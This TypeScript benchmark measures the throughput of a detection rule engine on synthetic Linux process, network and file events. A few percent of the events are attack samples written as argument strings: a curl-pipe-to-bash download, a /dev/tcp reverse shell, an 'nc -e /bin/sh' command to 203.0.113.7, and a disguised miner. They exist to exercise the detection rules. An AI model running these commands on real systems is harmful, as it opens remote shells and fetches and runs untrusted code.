/**
 * Issue 7's measure: events per second on one core through the rule engine loaded as the server
 * loads it, with the default pack (rules/*.yaml) plus every Sigma rule of third_party/sigma that
 * converts, on a realistic mix of agent-shaped events. Cases: pack only, Sigma only, both, and
 * both without the index (every rule on every event) as the peer in the same run. Prints the
 * Markdown table for docs/perf.md, rule evaluations per event by action, the ten rules evaluated
 * most and the verdict against the target.
 *
 *   npx tsc -p . && node dist/bench/detection-engine.js [SECONDS_PER_CASE=3]
 *
 * Target: at least 200,000 events/s on one core with both.
 */
import { readdir, readFile } from 'node:fs/promises';
import { cpus, loadavg } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { eventActions, eventKinds, exampleEvent, type EventAction } from '../src/common/events/index.js';
import { formatProblem, loadRules, type RuleFile, type RuleSet } from '../src/rules/index.js';
import { measure, restamper, type Measured } from './rule-measure.js';
import { convertSigma, type SigmaFile } from '../src/rules/sigma/index.js';
import { readDefaultPack } from '../src/runtime/rule-pack.js';

const TARGET = 200_000;
const secondsPerCase = Number(process.argv[2] ?? '3');
const root = fileURLToPath(new URL('../../', import.meta.url));
const sigmaDir = path.join(root, 'third_party', 'sigma');

// ----- rules -----

async function sigmaFiles(dir: string): Promise<SigmaFile[]> {
  const out: SigmaFile[] = [];
  const walk = async (d: string): Promise<void> => {
    for (const entry of (await readdir(d, { withFileTypes: true })).sort((a, b) => (a.name < b.name ? -1 : 1))) {
      const full = path.join(d, entry.name);
      if (entry.isDirectory()) await walk(full);
      else if (/\.ya?ml$/i.test(entry.name)) out.push({ path: path.relative(dir, full), text: await readFile(full, 'utf8') });
    }
  };
  await walk(dir);
  return out;
}

// ----- events -----

let seed = 11;
function random(n: number): number {
  // 32-bit multiplication (a double product past 2^53 loses the low bits), and the high bits of
  // the state: an LCG's low bits repeat with a short period.
  seed = (Math.imul(seed, 1103515245) + 12345) & 0x7fffffff;
  return (seed >>> 16) % n;
}
function pick<T>(items: readonly T[]): T {
  return items[random(items.length)]!;
}
/** Picks from [weight, item] pairs. */
function weighted<T>(table: readonly (readonly [number, T])[]): T {
  const total = table.reduce((n, [w]) => n + w, 0);
  let r = random(total);
  for (const [w, item] of table) {
    if (r < w) return item;
    r -= w;
  }
  return table[table.length - 1]![1];
}

/**
 * Programs a fleet of Linux servers runs, weighted by how often they are executed: cron jobs,
 * monitoring probes, shells of interactive sessions, builds, containers, package upgrades, and a
 * few percent of what the rules look for (downloads piped to shells, reverse shells, recon).
 * `exe` is the path the kernel resolved; the name is the comm (the name it was executed by).
 */
const programs: readonly (readonly [number, { exe: string; name?: string; args: readonly (readonly string[])[] }])[] = [
  [60, { exe: '/usr/bin/dash', name: 'sh', args: [['-c', 'run-parts --report /etc/cron.hourly'], ['-c', '/usr/lib/sysstat/sa1 1 1'], ['-c', 'test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )'], ['-c', 'echo $PATH'], ['/usr/share/debconf/frontend']] }],
  [50, { exe: '/usr/bin/bash', args: [[], ['-l'], ['-c', 'ls -la /var/www | wc -l'], ['/opt/app/bin/healthcheck.sh'], ['--noprofile', '--norc']] }],
  [30, { exe: '/usr/bin/cat', args: [['/proc/loadavg'], ['/etc/os-release'], ['/sys/fs/cgroup/memory.max'], ['/var/run/nginx.pid']] }],
  [30, { exe: '/usr/bin/grep', args: [['-q', 'ERROR', '/var/log/app.log'], ['-E', '^(root|admin):', '/etc/group'], ['-c', 'processor', '/proc/cpuinfo']] }],
  [25, { exe: '/usr/bin/ps', args: [['aux'], ['-eo', 'pid,ppid,comm,%cpu'], ['-p', '4242', '-o', 'etime=']] }],
  [25, { exe: '/usr/bin/sed', args: [['-n', 's/^VERSION=//p', '/etc/os-release'], ['-i', 's/foo/bar/', '/srv/app/config.ini']] }],
  [20, { exe: '/usr/bin/gawk', name: 'awk', args: [['{print $1}'], ['-F:', '{print $1}', '/etc/passwd'], ['NR==1 {print $2}']] }],
  [20, { exe: '/usr/bin/date', args: [['+%s'], ['-u', '+%Y-%m-%dT%H:%M:%SZ'], []] }],
  [20, { exe: '/usr/bin/sleep', args: [['1'], ['60'], ['0.5']] }],
  [18, { exe: '/usr/bin/ls', args: [['-la', '/var/www'], ['/tmp'], ['-1', '/etc/cron.d']] }],
  [15, { exe: '/usr/bin/python3.11', name: 'python3', args: [['/usr/bin/unattended-upgrade', '--dry-run'], ['-m', 'pip', 'list'], ['/opt/monitor/probe.py', '--json'], ['-c', 'import sys; print(sys.version)']] }],
  [15, { exe: '/usr/bin/node', args: [['/srv/app/server.js'], ['/usr/lib/node_modules/npm/bin/npm-cli.js', 'ci'], ['--max-old-space-size=4096', 'dist/worker.js']] }],
  [14, { exe: '/usr/bin/systemctl', args: [['is-active', 'nginx'], ['status', 'postgresql'], ['show', '-p', 'ActiveState', 'cron'], ['restart', 'app']] }],
  [12, { exe: '/usr/bin/git', args: [['fetch', '--quiet', 'origin'], ['rev-parse', 'HEAD'], ['status', '--porcelain'], ['clone', 'https://github.com/example/app.git']] }],
  [12, { exe: '/usr/bin/curl', args: [['-s', 'http://127.0.0.1:8080/health'], ['-fsSL', 'https://deb.nodesource.com/setup_20.x'], ['-s', '-o', '/dev/null', '-w', '%{http_code}', 'https://api.example.com/status']] }],
  [10, { exe: '/usr/bin/head', args: [['-n', '1'], ['-c', '16', '/dev/urandom']] }],
  [10, { exe: '/usr/bin/tail', args: [['-n', '100', '/var/log/syslog'], ['-F', '/var/log/nginx/access.log']] }],
  [10, { exe: '/usr/bin/wc', args: [['-l'], ['-c', '/var/log/app.log']] }],
  [10, { exe: '/usr/bin/basename', args: [['/srv/app/releases/20261128']] }],
  [10, { exe: '/usr/bin/dirname', args: [['/srv/app/current']] }],
  [10, { exe: '/usr/bin/readlink', args: [['-f', '/srv/app/current']] }],
  [10, { exe: '/usr/bin/mkdir', args: [['-p', '/run/app'], ['-p', '/tmp/build/obj']] }],
  [9, { exe: '/usr/bin/rm', args: [['-f', '/tmp/app.lock'], ['-rf', '/tmp/build']] }],
  [9, { exe: '/usr/bin/cp', args: [['/etc/nginx/nginx.conf', '/tmp/nginx.conf.bak'], ['-a', 'dist/', '/srv/app/']] }],
  [8, { exe: '/usr/bin/mv', args: [['/tmp/upload.part', '/srv/app/uploads/a.png']] }],
  [8, { exe: '/usr/bin/chmod', args: [['0644', '/srv/app/config.ini'], ['+x', '/srv/app/bin/run']] }],
  [8, { exe: '/usr/bin/find', args: [['/var/log', '-name', '*.gz', '-mtime', '+7', '-delete'], ['/tmp', '-type', 'f', '-mmin', '+60']] }],
  [8, { exe: '/usr/bin/xargs', args: [['-r', 'rm', '-f'], ['-n1', 'basename']] }],
  [8, { exe: '/usr/bin/tr', args: [['-d', '\\n'], ['a-z', 'A-Z']] }],
  [8, { exe: '/usr/bin/cut', args: [['-d:', '-f1'], ['-c1-10']] }],
  [7, { exe: '/usr/bin/sort', args: [['-u'], ['-n', '-r']] }],
  [6, { exe: '/usr/bin/uniq', args: [['-c']] }],
  [6, { exe: '/usr/bin/env', args: [['python3', '/opt/monitor/probe.py'], []] }],
  [6, { exe: '/usr/bin/logger', args: [['-t', 'backup', 'backup done']] }],
  [6, { exe: '/usr/bin/run-parts', args: [['--report', '/etc/cron.daily']] }],
  [6, { exe: '/usr/bin/flock', args: [['-n', '/run/backup.lock', '/opt/backup/run.sh']] }],
  [6, { exe: '/usr/bin/tar', args: [['-czf', '/var/backups/app.tgz', '/srv/app'], ['-xzf', 'release.tgz', '-C', '/srv/app/releases']] }],
  [6, { exe: '/usr/bin/gzip', args: [['-9', '/var/log/app.log.1']] }],
  [5, { exe: '/usr/bin/id', args: [['-u'], ['-un'], []] }],
  [5, { exe: '/usr/bin/uname', args: [['-r'], ['-a']] }],
  [5, { exe: '/usr/bin/hostname', args: [[], ['-f']] }],
  [5, { exe: '/usr/bin/df', args: [['-h'], ['-P', '/']] }],
  [5, { exe: '/usr/bin/journalctl', args: [['-u', 'nginx', '--since', '-5min'], ['--disk-usage']] }],
  [5, { exe: '/usr/sbin/ip', name: 'ip', args: [['-j', 'addr'], ['route', 'show']] }],
  [5, { exe: '/usr/bin/ss', args: [['-tlnp'], ['-s']] }],
  [5, { exe: '/usr/bin/sudo', args: [['-n', 'systemctl', 'reload', 'nginx'], ['-u', 'postgres', 'psql', '-c', 'select 1']] }],
  [5, { exe: '/usr/bin/ssh', args: [['-o', 'BatchMode=yes', 'deploy@10.0.0.8', 'uptime'], ['git@github.com', 'git-upload-pack', "'example/app.git'"]] }],
  [5, { exe: '/usr/bin/docker', args: [['ps', '--format', '{{.Names}}'], ['inspect', 'web'], ['exec', 'web', 'sh', '-c', 'nginx -t']] }],
  [5, { exe: '/usr/bin/runc', args: [['--root', '/run/containerd/runc/k8s.io', 'state', 'abc123']] }],
  [5, { exe: '/usr/bin/containerd-shim-runc-v2', name: 'containerd-shim', args: [['-namespace', 'k8s.io', '-id', 'abc123', '-address', '/run/containerd/containerd.sock']] }],
  [5, { exe: '/usr/lib/jvm/java-17-openjdk-amd64/bin/java', name: 'java', args: [['-Xmx2g', '-cp', Array.from({ length: 40 }, (_, i) => `/opt/app/lib/dependency-${i}-1.2.3.jar`).join(':'), 'com.example.Main']] }],
  [4, { exe: '/usr/bin/perl', args: [['-e', 'print "ok\\n"'], ['/usr/share/debconf/frontend']] }],
  [4, { exe: '/usr/bin/php8.2', name: 'php', args: [['/var/www/app/artisan', 'schedule:run'], ['-r', 'echo PHP_VERSION;']] }],
  [4, { exe: '/usr/bin/openssl', args: [['x509', '-noout', '-enddate', '-in', '/etc/ssl/certs/app.pem'], ['rand', '-hex', '16']] }],
  [4, { exe: '/usr/bin/base64', args: [['-w0', '/tmp/report.json'], ['-d']] }],
  [3, { exe: '/usr/bin/apt-get', args: [['update'], ['install', '-y', 'jq']] }],
  [3, { exe: '/usr/bin/dpkg', args: [['-l'], ['--configure', '-a']] }],
  [3, { exe: '/usr/bin/make', args: [['-j2'], ['install']] }],
  [3, { exe: '/usr/bin/x86_64-linux-gnu-gcc-12', name: 'gcc', args: [['-O2', '-c', 'main.c', '-o', 'main.o']] }],
  [2, { exe: '/usr/bin/crontab', args: [['-l']] }],
  [2, { exe: '/usr/bin/wget', args: [['-q', 'https://deb.debian.org/debian/dists/bookworm/Release'], ['-qO-', 'http://203.0.113.7/x.sh']] }],
  [2, { exe: '/usr/bin/whoami', args: [[]] }],
  [2, { exe: '/usr/bin/nohup', args: [['/srv/app/bin/worker']] }],
  [2, { exe: '/usr/bin/vim.basic', name: 'vim', args: [['/etc/hosts']] }],
  [2, { exe: '/usr/bin/nc.openbsd', name: 'nc', args: [['-z', '10.0.0.8', '5432'], ['-e', '/bin/sh', '203.0.113.7', '4444']] }],
  [2, { exe: '/srv/app/bin/worker', name: 'worker', args: [['--queue', 'default']] }],
  [2, { exe: '/home/alice/.local/bin/poetry', name: 'poetry', args: [['install']] }],
  [1, { exe: '/tmp/.x/kworker', name: 'kworker', args: [['-o', 'pool.example.net:3333']] }],
  [1, { exe: '/usr/bin/bash', args: [['-c', 'curl -s http://203.0.113.7/x.sh | bash'], ['-i'], ['-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']] }],
  [1, { exe: '/usr/bin/chattr', args: [['+i', '/etc/resolv.conf']] }],
  [1, { exe: '/usr/sbin/useradd', name: 'useradd', args: [['-m', 'deploy']] }],
  [1, { exe: '/usr/bin/history', name: 'history', args: [['-c']] }],
];

/** Where processes come from: the ancestors above them, parent first (process name, executable, arguments). */
const lineages: readonly (readonly [number, readonly (readonly [string, string, readonly string[]])[]])[] = [
  [30, [['cron', '/usr/sbin/cron', ['/usr/sbin/cron', '-f']], ['systemd', '/usr/lib/systemd/systemd', ['/sbin/init']]]],
  [20, [['sh', '/usr/bin/dash', ['/bin/sh', '-c', '/opt/monitor/collect.sh']], ['cron', '/usr/sbin/cron', ['/usr/sbin/cron', '-f']], ['systemd', '/usr/lib/systemd/systemd', ['/sbin/init']]]],
  [15, [['bash', '/usr/bin/bash', ['-bash']], ['sshd', '/usr/sbin/sshd', ['sshd: alice@pts/0']], ['sshd', '/usr/sbin/sshd', ['sshd: alice [priv]']], ['sshd', '/usr/sbin/sshd', ['/usr/sbin/sshd', '-D']], ['systemd', '/usr/lib/systemd/systemd', ['/sbin/init']]]],
  [12, [['node', '/usr/bin/node', ['node', '/srv/app/server.js']], ['systemd', '/usr/lib/systemd/systemd', ['/sbin/init']]]],
  [8, [['sh', '/usr/bin/dash', ['sh', '-c', 'make test']], ['make', '/usr/bin/make', ['make', 'ci']], ['java', '/usr/lib/jvm/java-17-openjdk-amd64/bin/java', ['java', '-jar', '/usr/share/jenkins/agent.jar']], ['systemd', '/usr/lib/systemd/systemd', ['/sbin/init']]]],
  [8, [['sh', '/usr/bin/dash', ['sh', '-c', 'nginx -t']], ['containerd-shim', '/usr/bin/containerd-shim-runc-v2', ['/usr/bin/containerd-shim-runc-v2', '-namespace', 'k8s.io']], ['systemd', '/usr/lib/systemd/systemd', ['/sbin/init']]]],
  [5, [['systemd', '/usr/lib/systemd/systemd', ['/sbin/init']]]],
  [2, [['python3', '/usr/bin/python3.11', ['/usr/bin/python3', '/usr/bin/unattended-upgrade']], ['systemd', '/usr/lib/systemd/systemd', ['/sbin/init']]]],
  [1, [['sh', '/usr/bin/dash', ['sh', '-c', 'id; uname -a']], ['php-fpm8.2', '/usr/sbin/php-fpm8.2', ['php-fpm: pool www']], ['php-fpm8.2', '/usr/sbin/php-fpm8.2', ['php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)']], ['systemd', '/usr/lib/systemd/systemd', ['/sbin/init']]]],
];

const hosts = Array.from({ length: 200 }, (_, i) => `web-${String(i).padStart(3, '0')}`);
const users: readonly (readonly [number, { id: string; name: string }])[] = [
  [40, { id: '0', name: 'root' }],
  [25, { id: '33', name: 'www-data' }],
  [20, { id: '1000', name: 'alice' }],
  [10, { id: '999', name: 'app' }],
  [5, { id: '110', name: 'postgres' }],
];

let nextPid = 20_000;
const startMs = Date.parse('2026-11-28T08:00:00.000Z');

function makeProcess(host: string, at: number): { process: Record<string, unknown>; hades: Record<string, unknown> } {
  const program = weighted(programs);
  const name = program.name ?? path.posix.basename(program.exe);
  const args = [name, ...pick(program.args)];
  const lineage = weighted(lineages);
  const pid = nextPid++;
  const ancestors = lineage.map(([n, exe, a], k) => ({ pid: k === lineage.length - 1 ? 1 : pid - 10 * (k + 1), entity_id: `${host}:${k === lineage.length - 1 ? 1 : pid - 10 * (k + 1)}:${startMs - 1000 * (k + 1)}`, name: n, executable: exe, args: [...a], args_truncated: false }));
  const parent = ancestors[0]!;
  const user = weighted(users);
  return {
    process: {
      pid,
      entity_id: `${host}:${pid}:${at}`,
      name,
      executable: program.exe,
      args,
      command_line: args.join(' '),
      working_directory: pick(['/', '/srv/app', '/home/alice', '/tmp', '/var/lib/jenkins/workspace/app']),
      user,
      group: { id: user.id, name: user.name },
      real_user: user,
      real_group: { id: user.id, name: user.name },
      parent: { pid: parent.pid, entity_id: parent.entity_id, name: parent.name, executable: parent.executable, args: parent.args },
      args_count: args.length,
      start: new Date(at).toISOString(),
      interactive: lineage === lineages[2]![1],
    },
    hades: {
      backend: 'ebpf',
      ancestors,
      ancestry: [`${name}(${pid})`, ...ancestors.map((a) => `${a.name}(${a.pid})`)].join(' < '),
      process: { stdio: { stdin: { type: pick(['pipe', 'tty', 'file', 'char_device'] as const) }, stdout: { type: pick(['pipe', 'tty', 'file'] as const) } }, args_truncated: false },
    },
  };
}

/** The share of each action in the stream: execs dominate, then network, DNS and file events; everything the agent produces appears. */
const actionMix: readonly (readonly [number, EventAction])[] = [
  [500, 'exec'],
  [80, 'fork'],
  [80, 'exit'],
  [110, 'connect'],
  [25, 'accept'],
  [5, 'listen'],
  [80, 'dns_query'],
  [35, 'file_create'],
  [15, 'file_rename'],
  [15, 'file_delete'],
  [10, 'file_chmod'],
  // Times set to a given time: archives extracted (in build folders under /tmp), cp -p, touch -r.
  [10, 'file_times'],
  // Opens of the sensitive files (shadow, SSH keys): sshd, sudo, cron, backups read them all day.
  [5, 'file_open'],
  // From the log collector: logins of an internet-facing SSH (mostly failed guesses), sudo.
  [10, 'ssh_login'],
  [3, 'sudo'],
  [1, 'honeypot_touch'],
  [10, 'privilege_change'],
  [10, 'inventory_change'],
  [3, 'ptrace'],
  [3, 'memfd_create'],
  [1, 'module_load'],
  [3, 'agent_health'],
  [1, 'agent_drop'],
  [1, 'package_finding'],
  [1, 'tamper'],
  [1, 'agent_gap'],
  // Processes naming themselves (node's process.title, systemd's workers, setproctitle).
  [2, 'process_rename'],
];
const produced = new Set(eventActions.filter((a) => !('planned' in eventKinds[a])));
for (const [, a] of actionMix) if (!produced.has(a)) throw new Error(`${a} is not produced by the agent`);
for (const a of produced) if (!actionMix.some(([, x]) => x === a)) throw new Error(`the mix lacks ${a}`);

const domains = ['api.github.com', 'deb.debian.org', 'security.debian.org', 'registry.npmjs.org', 'pypi.org', 'files.pythonhosted.org', 'www.example.com', 'api.example.com', 'metadata.google.internal', 'sentry.io', 'o123.ingest.sentry.io', 'updates.example.net', 'db.internal', 'redis.internal', 'x1y2.oast.fun', 'pool.minexmr.com', 'abc.ngrok-free.app'];
const filePaths = ['/tmp/app.lock', '/tmp/build/obj/main.o', '/var/tmp/systemd-private-1/tmp', '/etc/cron.d/backup', '/etc/passwd', '/etc/shadow', '/etc/ld.so.cache', '/etc/hosts', '/etc/systemd/system/app.service', '/home/alice/.ssh/authorized_keys', '/home/alice/.bashrc', '/root/.bash_history', '/usr/bin/python3.11', '/usr/lib/x86_64-linux-gnu/libssl.so.3', '/var/spool/cron/crontabs/root', '/etc/sudoers.d/90-cloud-init-users', '/srv/app/uploads/a.png', '/dev/shm/x'];

const sensitivePaths = ['/etc/shadow', '/etc/gshadow', '/etc/sudoers', '/root/.ssh/id_ed25519', '/home/alice/.ssh/id_rsa', '/etc/ssh/ssh_host_ed25519_key'];

function makeEvent(i: number): Record<string, unknown> {
  const action = weighted(actionMix);
  const e = structuredClone(exampleEvent(action));
  const at = startMs + i * 5;
  e['@timestamp'] = new Date(at).toISOString();
  const meta = e['event'] as Record<string, unknown>;
  meta['id'] = `01JDQ7Z3M4S9W2R8K5${String(i).padStart(8, '0')}`;
  meta['sequence'] = i;
  const host = pick(hosts);
  (e['host'] as Record<string, unknown>)['name'] = host;
  if (e['process'] !== undefined) {
    const p = makeProcess(host, at);
    if (action === 'fork' || action === 'exit') {
      // The tree's view of a process: its name and parent; exit adds the outcome.
      const proc = p.process;
      e['process'] = { ...(e['process'] as object), pid: proc['pid'], entity_id: proc['entity_id'], name: proc['name'], executable: proc['executable'], args: proc['args'], parent: proc['parent'] };
      e['hades'] = { backend: 'ebpf', ancestors: p.hades['ancestors'], ancestry: p.hades['ancestry'] };
    } else {
      e['process'] = p.process;
      e['hades'] = { ...(e['hades'] as object | undefined), ...p.hades };
    }
  }
  switch (action) {
    case 'connect':
      e['destination'] = { ip: random(3) === 0 ? `10.0.${random(4)}.${random(255)}` : `203.0.113.${random(255)}`, port: pick([443, 443, 443, 80, 5432, 6379, 22, 53, 8080, 4444]) };
      e['source'] = { ip: '10.0.0.5', port: 30_000 + random(30_000) };
      if (random(20) === 0) meta['outcome'] = 'failure';
      break;
    case 'accept':
      e['source'] = { ip: random(2) === 0 ? `198.51.100.${random(255)}` : `10.0.1.${random(255)}`, port: 30_000 + random(30_000) };
      e['destination'] = { ip: '10.0.0.5', port: pick([22, 443, 80, 5432]) };
      break;
    case 'dns_query': {
      const d = pick(domains);
      (e['dns'] as { question: { name: string } }).question.name = random(4) === 0 ? `${random(1e6).toString(36)}.${d}` : d;
      break;
    }
    case 'ssh_login': {
      // Guesses from a few hundred addresses, now and then a success.
      e['source'] = { ip: `198.51.${random(4)}.${random(250)}`, port: 40000 + random(20000) };
      e['user'] = { name: pick(['root', 'admin', 'ubuntu', 'deploy', 'alice', 'test', 'oracle']) };
      (e['event'] as { outcome: string }).outcome = random(20) === 0 ? 'success' : 'failure';
      break;
    }
    case 'file_open': {
      const p = pick(sensitivePaths);
      e['file'] = { ...(e['file'] as object), path: p, name: path.posix.basename(p), directory: path.posix.dirname(p) };
      break;
    }
    case 'process_rename': {
      const proc = e['process'] as Record<string, unknown>;
      e['hades'] = { ...(e['hades'] as object), rename: { old_name: proc['name'] } };
      proc['name'] = pick(['npm', 'npm exec tsc', '(sd-exec-strv)', 'celery', 'postgres: walwriter', 'nginx: worker']);
      break;
    }
    case 'file_create':
    case 'file_rename':
    case 'file_delete':
    case 'file_chmod': {
      const p = pick(filePaths);
      e['file'] = { ...(e['file'] as object), path: p, name: path.posix.basename(p), directory: path.posix.dirname(p) };
      break;
    }
    case 'file_times': {
      const p = pick(filePaths);
      e['file'] = { path: p, name: path.posix.basename(p), directory: path.posix.dirname(p), mtime: '2024-03-01T10:00:00.000Z' };
      (e['hades'] as { file: Record<string, unknown> }).file = { syscall: 'utimensat', mtime_seconds: 1709287200, backdated: random(4) !== 0 };
      break;
    }
  }
  return e;
}

// ----- measuring -----

/** Event time keeps moving forward across rounds, as in a stream (not timed). */
const restamp = restamper(startMs);

function byAction(events: readonly Record<string, unknown>[]): Map<string, Record<string, unknown>[]> {
  const out = new Map<string, Record<string, unknown>[]>();
  for (const e of events) {
    const action = (e['event'] as { action: string }).action;
    const list = out.get(action) ?? [];
    list.push(e);
    out.set(action, list);
  }
  return out;
}

const totalEvaluations = (set: RuleSet) => set.stats().reduce((n, s) => n + s.evaluations, 0);



/** Rule evaluations per event of each action (one untimed pass over that action's events). */
function evaluationsByAction(set: RuleSet, events: readonly Record<string, unknown>[]): Map<string, number> {
  const out = new Map<string, number>();
  for (const [action, list] of [...byAction(events)].sort((a, b) => b[1].length - a[1].length)) {
    const before = totalEvaluations(set);
    restamp(list);
    for (const e of list) set.match(e);
    out.set(action, (totalEvaluations(set) - before) / list.length);
  }
  return out;
}

// ----- run -----

const pack = await readDefaultPack();
const sigma = convertSigma(await sigmaFiles(sigmaDir));

function load(label: string, files: readonly RuleFile[], indexByAction = true): RuleSet {
  const started = performance.now();
  const { ruleSet, problems } = loadRules(files, { indexByAction });
  const ms = performance.now() - started;
  const errors = problems.filter((p) => p.severity === 'error');
  // The pack may be mid-edit: what does not load is reported, the rest is measured.
  if (errors.length > 0) console.log(`${label}: ${errors.length} rule errors (skipped rules), e.g. ${formatProblem(errors[0]!)}`);
  if (indexByAction) console.log(`${label}: ${ruleSet.rules.length} rules (${ruleSet.rules.filter((r) => r.type !== 'rule').length} correlation, ${ruleSet.rules.filter((r) => !r.enabled).length} disabled) compiled in ${ms.toFixed(0)} ms`);
  return ruleSet;
}

console.log(`Node ${process.version}, ${cpus()[0]?.model ?? 'unknown CPU'}, ${cpus().length} cores, load average ${loadavg()[0]!.toFixed(1)}; ${secondsPerCase} s per case, one thread\n`);
const packSet = load('pack', pack);
const sigmaSet = load('Sigma', sigma.files);
const both = load('pack + Sigma', [...pack, ...sigma.files]);
const bothUnindexed = load('pack + Sigma, no index', [...pack, ...sigma.files], false);
const packCount = packSet.rules.length;
const sigmaCount = sigmaSet.rules.length;
console.log(`Sigma: ${sigma.summary.loaded} of ${sigma.summary.total} Sigma documents converted (${sigma.files.length} files)\n`);

const events = Array.from({ length: 20_000 }, (_, i) => makeEvent(i));
const share = byAction(events);
console.log(`events: ${events.length}, ${[...share].sort((a, b) => b[1].length - a[1].length).map(([a, l]) => `${a} ${((100 * l.length) / events.length).toFixed(1)}%`).join(', ')}\n`);

const cases: [string, number, RuleSet][] = [
  ['pack', packCount, packSet],
  ['Sigma', sigmaCount, sigmaSet],
  ['pack + Sigma', both.rules.length, both],
  ['pack + Sigma, no index', bothUnindexed.rules.length, bothUnindexed],
];
const results = new Map<string, Measured>();
// HADES_BENCH_ONLY=LABEL measures that case alone (for a CPU profile of it: node --cpu-prof ...).
const only = process.env['HADES_BENCH_ONLY'];
if (only !== undefined && !cases.some(([label]) => label === only)) throw new Error(`HADES_BENCH_ONLY: no case ${JSON.stringify(only)}; the cases are ${cases.map(([l]) => JSON.stringify(l)).join(', ')}`);
for (const [label, , set] of cases) if (only === undefined || label === only) results.set(label, measure(set, events, label.endsWith('no index') ? Math.min(secondsPerCase, 2) : secondsPerCase, restamp));
if (only !== undefined) {
  const r = results.get(only)!;
  console.log(`${only}: ${Math.round(r.rate).toLocaleString('en')} events/s, ${r.evaluationsPerEvent.toFixed(2)} rule evaluations/event`);
  process.exit(0);
}

console.log('| rules | count | events/s | events per CPU-s | ns/event | rule evaluations/event | matches/event |');
console.log('|---|---:|---:|---:|---:|---:|---:|');
for (const [label, count] of cases) {
  const r = results.get(label)!;
  console.log(`| ${label} | ${count} | ${Math.round(r.rate).toLocaleString('en')} | ${Math.round(r.cpuRate).toLocaleString('en')} | ${r.nsPerEvent.toFixed(0)} | ${r.evaluationsPerEvent.toFixed(1)} | ${r.matchesPerEvent.toFixed(3)} |`);
}

console.log('\nrule evaluations per event, by action (pack + Sigma):\n');
const perAction = evaluationsByAction(both, events);
const perActionNone = evaluationsByAction(bothUnindexed, events);
console.log('| action | share | indexed | no index |');
console.log('|---|---:|---:|---:|');
for (const [action, n] of perAction) console.log(`| ${action} | ${((100 * share.get(action)!.length) / events.length).toFixed(1)}% | ${n.toFixed(1)} | ${perActionNone.get(action)!.toFixed(0)} |`);

// HADES_BENCH_TOP=N lists more rules (all of them with a large N), to find what a change made costly.
const topCount = Number(process.env['HADES_BENCH_TOP'] ?? 10) || 10;
console.log(`\ntop ${topCount} rules by evaluations (pack + Sigma, timed rounds):\n`);
const infos = new Map(both.rules.map((r) => [r.id, r]));
const bothMeasured = results.get('pack + Sigma')!;
const top = [...bothMeasured.perRule].sort((a, b) => b[1] - a[1]).slice(0, topCount);
console.log('| rule | type | file | evaluations/event | share of evaluations |');
console.log('|---|---|---|---:|---:|');
for (const [id, n] of top) {
  const info = infos.get(id)!;
  console.log(`| ${id} (${info.title}) | ${info.type} | ${info.file} | ${n.toFixed(3)} | ${((100 * n) / bothMeasured.evaluationsPerEvent).toFixed(1)}% |`);
}

const { rate, cpuRate } = results.get('pack + Sigma')!;
console.log(`\nrules: pack ${packCount}, Sigma ${sigmaCount}, total ${both.rules.length}`);
console.log(`verdict: ${Math.round(rate).toLocaleString('en')} events/s with pack + Sigma on one core (${Math.round(cpuRate).toLocaleString('en')} per CPU-second): ${rate >= TARGET ? 'meets' : 'MISSES'} the target of ${TARGET.toLocaleString('en')} events/s (${((100 * rate) / TARGET).toFixed(0)}%)`);
